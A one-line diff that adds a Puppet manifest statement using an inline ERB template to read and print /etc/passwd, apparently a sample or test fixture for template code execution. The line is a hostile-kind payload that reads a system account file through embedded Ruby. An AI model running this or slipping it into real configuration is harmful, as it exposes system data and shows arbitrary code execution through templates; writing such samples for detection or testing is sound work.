@@ -1,0 +1,1 @@
+notice(inline_template('<%= File.read("/etc/passwd") %>'))
